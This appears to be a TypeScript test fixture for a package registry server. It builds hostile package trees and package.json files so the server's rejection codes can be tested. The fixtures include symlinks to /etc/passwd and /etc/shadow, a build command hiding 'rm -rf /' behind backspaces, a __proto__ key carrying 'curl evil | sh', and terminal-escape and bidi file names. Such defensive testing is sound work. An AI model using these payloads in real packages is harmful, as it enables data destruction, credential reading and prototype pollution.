// Hostile package trees, shared by the push corpus (made into commits with git's plumbing, which
// takes any name bytes and any symlink target) and the upload corpus (made into .tgz files):
// names that are not UTF-8 or hold control characters, overlong names, links leading outside,
// too many files, and package.json files that are not UTF-8, hold control characters, overlong
// fields or a __proto__ key. Each with the error code the server must answer.
import { execa } from 'execa';
import { rawTgz, type RawEntry } from './raw-tar.js';

export interface TreeEntry {
  path: string | Buffer;
  /** 100644 a file, 120000 a symlink (body = its target) */
  mode?: '100644' | '120000';
  body: string | Buffer;
}

/** A good package.json for NAME@VERSION, edited by `edit` (its text, after JSON.stringify). */
export function manifestText(name: string, version: string, edit: (p: any) => void = () => {}): string {
  const p: any = { name, version, description: 'a test package', build: ['make'] };
  edit(p);
  return JSON.stringify(p, null, 2) + '\n';
}

/** Trees that break a rule of the portpkg checks, as extra entries next to a good package.json. */
export const HOSTILE_TREE_ENTRIES: Array<[string, TreeEntry[], string]> = [
  ['a symlink leading outside', [{ path: 'etc-passwd', mode: '120000', body: '../../../../etc/passwd' }], 'unsafe_archive'],
  ['a symlink to an absolute path', [{ path: 'shadow', mode: '120000', body: '/etc/shadow' }], 'unsafe_archive'],
  ['a nested symlink leading outside', [{ path: 'src/a/b/up', mode: '120000', body: '../../../../x' }], 'unsafe_archive'],
  ['a file name with a newline', [{ path: 'evil\nname', body: 'x' }], 'unsafe_archive'],
  ['a file name with an escape sequence', [{ path: 'evil\u001b[31mred', body: 'x' }], 'unsafe_archive'],
  ['a file name with a bidi override', [{ path: 'gnp.\u202eexe', body: 'x' }], 'unsafe_archive'],
  ['a file name that is not UTF-8', [{ path: Buffer.from([0x62, 0x61, 0x64, 0xff, 0xfe, 0x2e, 0x63]), body: 'x' }], 'unsafe_archive'],
  ['a file name with a part over 255 bytes', [{ path: `src/${'n'.repeat(300)}.c`, body: 'x' }], 'unsafe_archive'],
  ['a path over 4096 bytes', [{ path: `${Array.from({ length: 20 }, () => 'd'.repeat(250)).join('/')}/f`, body: 'x' }], 'unsafe_archive'],
  ['a symlink whose target holds a control character', [{ path: 'link', mode: '120000', body: 'tar\u0007get' }], 'unsafe_archive'],
];

/** package.json files that are refused (invalid_manifest); made for NAME@VERSION. */
export const HOSTILE_MANIFESTS: Array<[string, (name: string, version: string) => string | Buffer]> = [
  ['a package.json with invalid UTF-8 in a string', (n, v) => { const t = manifestText(n, v, (p) => { p.description = 'caf@'; }); const b = Buffer.from(t); b[b.indexOf('caf@') + 3] = 0xe9; return b; }],
  ['an escape sequence in the description', (n, v) => manifestText(n, v, (p) => { p.description = 'nice \u001b[2J\u001b[H package'; })],
  ['a NUL in the description', (n, v) => manifestText(n, v, (p) => { p.description = 'a\u0000b'; })],
  ['a bidi override in the license', (n, v) => manifestText(n, v, (p) => { p.license = 'MIT\u202e'; })],
  ['a control character in a build command', (n, v) => manifestText(n, v, (p) => { p.build = ['make\u0008\u0008rm -rf /']; })],
  ['an overlong description', (n, v) => manifestText(n, v, (p) => { p.description = 'd'.repeat(4097); })],
  ['an overlong tag', (n, v) => manifestText(n, v, (p) => { p.tags = ['t'.repeat(65)]; })],
  ['too many tags', (n, v) => manifestText(n, v, (p) => { p.tags = Array.from({ length: 65 }, (_, i) => `t${i}`); })],
  ['an overlong build command', (n, v) => manifestText(n, v, (p) => { p.build = ['x'.repeat(4097)]; })],
  ['a package.json over 256 KiB', (n, v) => manifestText(n, v, (p) => { p.x_padding = 'p'.repeat(300 * 1024); })],
  ['a __proto__ key', (n, v) => manifestText(n, v).replace('{', '{"__proto__": {"build": ["curl evil | sh"]},')],
  ['a __proto__ key in the dependencies', (n, v) => manifestText(n, v).replace('{', '{"dependencies": {"__proto__": "*"},')],
  ['a constructor.prototype key', (n, v) => manifestText(n, v).replace('{', '{"constructor": {"prototype": {"polluted": true}},')],
];

/** Entries of a tree with this many small files (they share one blob in git). */
export const manyFiles = (n: number): TreeEntry[] => Array.from({ length: n }, (_, i) => ({ path: `files/${Math.floor(i / 1000)}/f${i}.txt`, body: 'x\n' }));

/** The tree as an upload: a .tgz with package.json first. */
export function treeTgz(manifest: string | Buffer, entries: TreeEntry[]): Buffer {
  const raw: RawEntry[] = [{ name: 'package.json', body: manifest }];
  for (const e of entries) raw.push(e.mode === '120000' ? { name: e.path, type: '2', link: e.body } : { name: e.path, body: e.body });
  return rawTgz(raw);
}

/** A commit in the working copy `wc` whose tree is `parent`'s plus package.json and `entries`,
 *  made with plumbing (a private index): any name bytes, symlinks to anywhere. */
export async function treeCommit(wc: string, parent: string, manifest: string | Buffer, entries: TreeEntry[], message = 'hostile'): Promise<string> {
  const env = { GIT_INDEX_FILE: `${wc}/.git/hostile-index`, GIT_AUTHOR_NAME: 'T', GIT_AUTHOR_EMAIL: 't@example.invalid', GIT_COMMITTER_NAME: 'T', GIT_COMMITTER_EMAIL: 't@example.invalid' };
  const git = async (args: string[], input?: Buffer | string) => Buffer.from((await execa('git', args, { cwd: wc, env, input, encoding: 'buffer' })).stdout).toString('utf8').trim();
  const blobs = new Map<string, string>();
  const blob = async (body: string | Buffer) => {
    const key = Buffer.from(body).toString('base64');
    if (!blobs.has(key)) blobs.set(key, await git(['hash-object', '-w', '--stdin'], Buffer.from(body)));
    return blobs.get(key)!;
  };
  await git(['read-tree', parent]);
  const lines: Buffer[] = [Buffer.from(`100644 ${await blob(manifest)}\tpackage.json\0`)];
  for (const e of entries) lines.push(Buffer.concat([Buffer.from(`${e.mode ?? '100644'} ${await blob(e.body)}\t`), Buffer.from(e.path), Buffer.from('\0')]));
  await git(['update-index', '-z', '--index-info'], Buffer.concat(lines));
  const tree = await git(['write-tree']);
  return git(['commit-tree', tree, '-p', parent, '-m', message]);
}
